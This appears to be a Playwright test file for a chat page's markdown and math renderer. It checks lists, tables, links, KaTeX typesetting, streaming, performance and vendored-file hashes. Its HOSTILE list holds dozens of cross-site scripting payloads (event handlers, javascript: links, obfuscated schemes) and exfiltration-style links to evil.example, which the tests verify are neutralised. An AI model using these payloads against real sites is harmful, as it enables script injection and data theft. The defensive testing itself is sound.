"""Markdown and mathematics of answers: what becomes an element, what must never, and half of a text while it comes."""

from __future__ import annotations

import hashlib
import re
from importlib.resources import files

import pytest
from playwright.sync_api import expect

from .scripted import ask, delta, text_answer

VENDOR = files("nano3.serve").joinpath("page", "vendor")

HOSTILE = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "<a href='javascript:window.hit=1'>a</a>",
    "<style>* { display: none }</style>",
    "<form action=//evil.example><button>b</button></form>",
    "<math><mi xlink:href='data:x,<script>window.hit = 1</script>'>x</mi></math>",
    "<!-- <script> --><script>window.hit = 1</script>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "[a](javascript:window.hit=1)",
    "[a](JaVaScRiPt:window.hit=1)",
    "[a](java&#10;script:window.hit=1)",
    "[a](&#106;avascript:window.hit=1)",
    "[a](<java\tscript:window.hit=1>)",
    "[a](\x01javascript:window.hit=1)",
    "[a](data:text/html,<script>window.hit=1</script>)",
    "[a](vbscript:window.hit=1)",
    "[a](//evil.example/x)",
    "[a](/v1/models)",
    "<javascript:window.hit=1>",
    "[a][ref]\n\n[ref]: javascript:window.hit=1",
    "![a](https://evil.example/leak.png?q=secret)",
    "![a](javascript:window.hit=1)",
    "![a](x\" onerror=\"window.hit=1)",
    "[a](https://ok.example \"' onmouseover='window.hit=1\")",
    "&lt;script&gt;window.hit = 1&lt;/script&gt;",
    "`<img src=x onerror=window.hit=1>`",
    "```html\n<img src=x onerror=window.hit=1>\n```",
    "```\"><img src=x onerror=window.hit=1>\ncode\n```",
    "| <img src=x onerror=window.hit=1> | b |\n|--|--|\n| <script>window.hit = 1</script> | x |",
    "- <img src=x onerror=window.hit=1>\n  1. <script>window.hit = 1</script>",
    "> <img src=x onerror=window.hit=1>",
    "# <img src=x onerror=window.hit=1>",
    "**<img src=x onerror=window.hit=1>**",
    "$\\href{javascript:window.hit=1}{x}$",
    "$\\url{javascript:window.hit=1}$",
    "$\\htmlClass{x}{\\htmlStyle{position:fixed}{x}}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\text{<img src=x onerror=window.hit=1>}$",
    "$$\\def\\x{\\x\\x}\\x$$",
    "$\\unicode{<script>}$ $<img src=x onerror=window.hit=1>$",
    "__proto__ [constructor][__proto__]\n\n[__proto__]: https://ok.example",
]  # fmt: skip
ALLOWED = """() => {
  const tags = new Set(('P SPAN H3 H4 H5 H6 CODE PRE DIV BUTTON STRONG EM DEL A BR HR UL OL LI INPUT BLOCKQUOTE ' +
    'TABLE THEAD TBODY TR TH TD').split(' '));
  const wrong = [];
  for (const node of document.querySelectorAll('.answer .text *')) {
    if (!node.closest('.katex') && !tags.has(node.tagName)) wrong.push(node.outerHTML);
    for (const { name, value } of node.attributes)
      if (/^on/i.test(name) || ['href', 'src'].includes(name) && /(java|vb)script:|^data:/i.test(value))
        wrong.push(node.outerHTML);
    if (node.tagName === 'A' && !/^(https?|mailto):/.test(node.getAttribute('href'))) wrong.push(node.outerHTML);
  }
  return wrong;
}"""  # fmt: skip


def answered(chat, script, text):
    script.play(*text_answer(text))
    ask(chat, "go")
    expect(chat.locator(".stats").last).to_be_visible()
    return chat.locator(".answer .text").last


def requests_of(chat):
    found = []
    chat.on("request", lambda request: found.append(request.url))
    return found


def test_nothing_hostile_becomes_markup_script_or_request(chat, script):
    requested = requests_of(chat)
    answered(chat, script, "\n\n".join(HOSTILE))
    assert chat.evaluate(ALLOWED) == []
    assert chat.evaluate("window.hit") is None
    assert not [url for url in requested if not url.startswith(script.url)]


def test_half_of_anything_hostile_is_harmless_too(chat, script):
    """Each alone, letter by letter as it streams, and whole."""
    requested = requests_of(chat)
    show = """async (text) => {
      const { show } = await import('./markdown.js');
      const target = document.createElement('div');
      target.className = 'text';
      turns.append(Object.assign(document.createElement('article'), { className: 'answer' }));
      turns.lastChild.append(target);
      for (let end = 1; end <= text.length; end++) show(target, text.slice(0, end), true);
      show(target, text, false);
    }"""
    for text in HOSTILE:
        chat.evaluate(show, text)
        assert chat.evaluate(ALLOWED) == [], text
    assert chat.evaluate("window.hit") is None
    assert not [url for url in requested if not url.startswith(script.url)]


def test_nested_lists_tasks_and_numbers(chat, script):
    text = answered(
        chat, script,
        "7. seven\n   - inner\n     - deepest `x`\n   - second\n8. eight\n\n   its second paragraph\n\n"
        "- [x] done\n- [ ] open\n",
    )  # fmt: skip
    assert text.locator("ol").get_attribute("start") == "7"
    expect(text.locator("ol > li")).to_have_count(2)
    expect(text.locator("ol > li").first.locator("ul ul li")).to_have_text("deepest x")
    expect(text.locator("ol > li").nth(1).locator("p")).to_have_text(["eight", "its second paragraph"])
    expect(text.get_by_role("checkbox", name="done")).to_be_checked()
    expect(text.get_by_role("checkbox", name="open")).not_to_be_checked()


def test_tables_align_and_hold_inline_text(chat, script):
    text = answered(chat, script, "a | b | c\n:-- | :-: | --:\n**x** | `1\\|2` | one<br>two\nonly\n\nafter")
    expect(text.locator("th")).to_have_text(["a", "b", "c"])
    expect(text.locator("td strong")).to_have_text("x")
    expect(text.locator("td code")).to_have_text("1|2")
    cell = text.locator("td").nth(2)
    expect(cell.locator("br")).to_have_count(1)
    expect(cell).to_have_css("text-align", "right")
    expect(text.locator("p")).to_have_text("after")


def test_emphasis_entities_links_and_indented_code(chat, script):
    text = answered(
        chat, script,
        "***both* bold** a&nbsp;b &copy; &lt;i&gt; ~5~ ~~no~~ [r][1] <https://auto.example> www.bare.example\n\n"
        "    indented  code\n\n![alt](https://pic.example/x.png)\n\n[1]: https://ref.example 'T'",
    )  # fmt: skip
    expect(text.locator("strong em")).to_have_text("both")
    expect(text.locator("p").first).to_contain_text("© <i> ~5~ no")
    expect(text.locator("del")).to_have_text("no")
    expect(text.locator("pre")).to_have_text("indented  code")
    hrefs = text.locator("a").evaluate_all("nodes => nodes.map((node) => node.getAttribute('href'))")
    assert hrefs == [
        "https://ref.example",
        "https://auto.example",
        "http://www.bare.example",
        "https://pic.example/x.png",
    ]
    expect(text.locator("img")).to_have_count(0)


def test_mathematics_is_typeset_and_only_then_loaded(chat, script):
    answered(chat, script, "It costs $5 and $6, or US$7; `$x$` and $HOME/$USER and \\$3.")
    expect(chat.locator(".math")).to_have_count(0)
    assert not [name for name in script.loaded if "katex" in name]
    text = answered(
        chat, script,
        "Euler: $e^{i\\pi} + 1 = 0$, the $n$th \\(a*b*c\\) and $a_1$ or $b_1$.\n\n"
        "$$\n\\left(\\begin{matrix} a & b \\\\ c & d \\\\ e & f \\\\ g & h \\end{matrix}\\right)\\vec{x}\n$$\n\n"
        "\\[ \\fcolorbox{red}{white}{x} \\pmb{y} \\]\n\n- item\n  $$z$$\n\n| $q$ |\n|--|\n| $r$ |",
    )  # fmt: skip
    expect(text.locator(".katex")).to_have_count(10)
    expect(text.locator(".math.display .katex-display")).to_have_count(3)
    expect(text.locator("em")).to_have_count(0)
    assert text.locator("annotation").first.text_content() == "e^{i\\pi} + 1 = 0"
    assert chat.evaluate("document.fonts.check('16px KaTeX_Main') && document.fonts.size > 0")
    assert [name for name in script.loaded if name.endswith("woff2")]
    answered(chat, script, "again $y$")
    assert script.loaded.count("vendor/katex/katex.min.js") == 1


def test_mathematics_that_cannot_be_read_stays_as_written(chat, script):
    text = answered(chat, script, "see $\\frac{1}{$ or $\\unknowncommand x$ or \\[1\\] and \\[a\\](https://x.example)")
    expect(text.locator(".math code")).to_have_text(["$\\frac{1}{$", "$\\unknowncommand x$"])
    # KaTeX arrives after the text.
    expect(text.locator(".math").last).to_have_attribute("title", re.compile("unknowncommand"))
    expect(text).to_contain_text("see $\\frac{1}{$ or")
    expect(text).to_contain_text("or [1] and")


def test_a_server_without_katex_leaves_the_source_of_formulas(chat, script):
    chat.route("**/katex.min.js", lambda route: route.abort())
    text = answered(chat, script, "so $x^2$ it is")
    expect(text).to_have_text("so $x^2$ it is")


STATES = """async (text) => {
  const { show } = await import('./markdown.js');
  const target = document.createElement('div');
  const states = [];
  for (let end = 1; end <= text.length; end++) {
    show(target, text.slice(0, end), true);
    states.push(target.innerHTML.replace(/<button.*?<\\/button>/g, ''));
  }
  show(target, text, false);
  const whole = document.createElement('div');
  show(whole, text, false);
  return [states, target.innerHTML, whole.innerHTML];
}"""
HALVES = [
    ("a **bold** word and `code` *em* ~~old~~.", r"[*`~]"),
    ("see [the site](https://example.com/a) now", r"[(]|https?:(?!//example.com/a\")"),
    ("text\n- one\n- **two**\n", r"\*|<h\d|text\n"),
    ("text\n---\nmore", None),
    ("| a | b |\n|---|---|\n| 1 | 2 |\n\nend", r"\|"),
    ("```py\nx = '`'\n``\n```\nafter", r"```"),
    ("# Title\n\n1. one\n   ```sh\n   ls\n   ```\n2. two", r"#|```"),
    ("$$\n\\frac{a_1}{b*c}\n$$\n\nso", r"katex-error"),
    ("a ***b** c* d", None),
]


@pytest.mark.parametrize(("text", "never"), HALVES)
def test_half_a_text_shows_no_marks_and_ends_as_the_whole(chat, text, never):
    states, streamed, whole = chat.evaluate(STATES, text)
    assert streamed == whole
    for state in states:
        shown = re.sub(r"<code>.*?</code>", "", state, flags=re.DOTALL)
        assert not (never and re.search(never, shown)), state


def test_a_long_text_streams_to_what_it_is_at_once(chat):
    """Only the last blocks are read again; with late addresses of links, lists that go on, and all kinds of blocks."""
    halves = [text for text, _ in HALVES]
    text = "\n\n".join([
        *halves, "- a\n\n  b\n\n- c", "[x][late] &amp; y", "[late]: https://late.example", "para\n#\n#x", "[x][late]",
        "> q\n> - w\nlazy", "    code\n\n    more", "\\[\nx\n\\]", "***", "z",
    ])  # fmt: skip
    _, streamed, whole = chat.evaluate(STATES, text)
    assert streamed == whole
    assert whole.count("https://late.example") == 2


def test_what_has_come_stays_in_place_while_more_comes(chat, script):
    begun, more = "**first**\n\n```py\na = 1\n", "b = 2\n```\n\n- one\n"
    script.play(delta(content=begun), script.wait, delta(content=more), *text_answer("- two\n\nend"))
    ask(chat, "go")
    text = chat.locator(".answer .text")
    expect(text.locator("code")).to_have_text("a = 1\n")
    early = "[...document.querySelectorAll('.text strong, .text pre')]"
    chat.evaluate(f"{early}.forEach((node) => (node.seen = true))")
    script.go_on.set()
    expect(text.locator("p").last).to_have_text("end")
    expect(text.locator("code")).to_have_text("a = 1\nb = 2")
    assert chat.evaluate(f"{early}.map((node) => node.seen)") == [True, True]


def test_hard_texts_are_shown_in_time(chat):
    """Neither marked nor the rules for formulas take time that grows with the square of what a model may write."""
    timed = """async (text) => {
      const { show } = await import('./markdown.js');
      const start = performance.now();
      show(document.createElement('div'), text, true);
      show(document.createElement('div'), text, false);
      return performance.now() - start;
    }"""
    hard = [
        "$" * 10000, "\\(" * 3000, "$a " * 10000, "**a " * 5000, "[" * 5000, "`" * 5000 + "a", "<" * 5000,
        "| a " * 3000, "> " * 500, "\\[" * 5000, "*_~" * 5000, "&" * 20000, "$$ a\n" * 2000, "[a](" * 5000,
    ]  # fmt: skip
    for text in hard:
        took = chat.evaluate(timed, text)
        assert took < 10_000, (text[:12], took)


def test_the_code_of_others_is_what_the_table_says():
    table = VENDOR.joinpath("README.md").read_text()
    rows = re.findall(r"\| (\S+/LICENSE|MIT, \S+) \| (\S+) \| ([0-9a-f]{64}) \|", table)
    assert len(rows) == 3
    for licence, name, digest in rows:
        assert hashlib.sha256(VENDOR.joinpath(name).read_bytes()).hexdigest() == digest, name
        assert "Permission is hereby granted" in VENDOR.joinpath(licence.removeprefix("MIT, ")).read_text()
    style = VENDOR.joinpath("katex", "katex.min.css").read_text()
    for font in set(re.findall(r"fonts/[\w-]+\.woff2", style)):
        assert VENDOR.joinpath("katex", font).read_bytes()[:4] == b"wOF2"
